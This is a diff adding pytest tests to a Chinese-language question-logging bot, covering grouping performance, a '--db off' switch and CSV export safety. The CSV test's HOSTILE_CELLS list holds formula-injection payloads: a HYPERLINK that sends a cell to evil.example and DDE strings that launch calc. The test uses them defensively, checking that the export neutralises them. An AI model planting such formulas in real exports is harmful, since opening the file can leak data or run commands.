@@ -25,6 +25,7 @@ from bot.questionlog import (
     UnansweredGroup,
     format_stats,
     format_unanswered,
+    group_questions,
     hash_asker,
     migrate,
     read_stats,
@@ -612,3 +613,118 @@ def test_parse_since(text: str, days: float) -> None:
 
 def test_logged_question_has_no_asker_field() -> None:
     assert "asker" not in LoggedQuestion.__dataclass_fields__
+
+
+# -- bounded grouping, CSV safety, --db off ------------------------------------------------------
+
+
+def logged(i: int, text: str, *, ts: str = "2025-02-19T21:20:00Z") -> LoggedQuestion:
+    return LoggedQuestion(
+        id=f"id{i}",
+        ts=ts,
+        chat_type="private",
+        question=text,
+        normalized=text,
+        decision="fallback",
+        intent=None,
+        score=0.0,
+        reason="low_score",
+        candidates=(),
+        chosen_intent=None,
+        feedback=None,
+    )
+
+
+def distinct_questions(n: int) -> list[str]:
+    """n different questions, all starting alike (the worst case for a first-character bucket)."""
+    import random
+
+    rng = random.Random(7)
+    words = ["公园", "学位", "托位", "地铁", "医院", "社保", "图书馆", "停车", "垃圾", "旧改"]
+    words += ["绿道", "体育馆", "就业", "补贴", "养老"]
+    out = []
+    for i in range(n):
+        picked = "".join(rng.sample(words, 3))
+        out.append(f"海珠区{picked}怎么样{i}")
+    return out
+
+
+def test_ten_thousand_distinct_questions_group_in_well_under_a_second() -> None:
+    """Before: every wording was compared with every group (quadratic): 10,000 took ~12 s."""
+    texts = distinct_questions(10_000)
+    rows = [logged(i, t) for i, t in enumerate(texts)]
+    # a few near-duplicates of one question, recent and frequent: they must still be grouped
+    rows += [logged(20_000 + i, "海珠区有多少个公园") for i in range(3)]
+    rows += [logged(30_000 + i, "海珠区有多少公园") for i in range(2)]
+    started = time.perf_counter()
+    groups = group_questions(rows)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 1.0, f"grouping 10,000 questions took {elapsed:.2f} s"
+    assert groups[0].count == 5 and groups[0].question == "海珠区有多少个公园"
+    assert sum(g.count for g in groups) == len(rows)  # every row is in exactly one group
+    assert len({i for g in groups for i in g.ids}) == len(rows)
+    started = time.perf_counter()
+    assert group_questions(rows, limit=20) == groups[:20]  # what /unanswered asks for
+    assert time.perf_counter() - started < 1.0
+
+
+def test_grouping_beyond_the_bound_keeps_identical_wordings_together() -> None:
+    from bot import questionlog
+
+    texts = distinct_questions(questionlog.MAX_CLUSTER_KEYS + 50)
+    rows = [logged(i, t) for i, t in enumerate(texts)]
+    old = "海珠区很久以前问过的问题"
+    rows += [logged(90_000, old, ts="2025-01-01T00:00:00Z")]
+    rows += [logged(90_001, old, ts="2025-01-01T00:00:00Z")]
+    groups = group_questions(rows)
+    [twice] = [g for g in groups if g.question == old]
+    assert twice.count == 2
+
+
+@pytest.fixture
+def hostile_db(db: Path) -> Path:
+    log = QuestionLog(db, secret="s", clock=Clock(time.time() - 60))
+    log.start()
+    for text in HOSTILE_CELLS:
+        log.record(chat_type="private", user_id=1, answer=ans(text, normalized=text))
+    log.record(chat_type="private", user_id=1, answer=ans("海珠区有多少公园"))
+    log.close()
+    return db
+
+
+HOSTILE_CELLS = [
+    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_report_csv_neutralises_formulas(hostile_db: Path, capsys: pytest.CaptureFixture[str]):
+    assert report.main(["--db", str(hostile_db), "--format", "csv"]) == 0
+    table = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    cells = {r["question"] for r in table}
+    assert cells == {"'" + text for text in HOSTILE_CELLS} | {"海珠区有多少公园"}
+    for row in table:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    assert report.csv_cell(3) == 3 and report.csv_cell("a=b") == "a=b"
+    assert report.csv_cell("-") == "'-" and report.csv_cell("") == ""
+
+
+@pytest.mark.parametrize("off", ["off", "OFF", "Off", "none", "no", "false", "0", " off "])
+def test_report_db_accepts_every_off_spelling(
+    off: str,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / off).write_text("not a database")  # even if such a file happens to exist
+    assert report.main(["--db", off]) == 1
+    assert "disabled" in capsys.readouterr().err
+    monkeypatch.setenv("BOT_DB", off)
+    assert report.main([]) == 1
+    assert "disabled" in capsys.readouterr().err
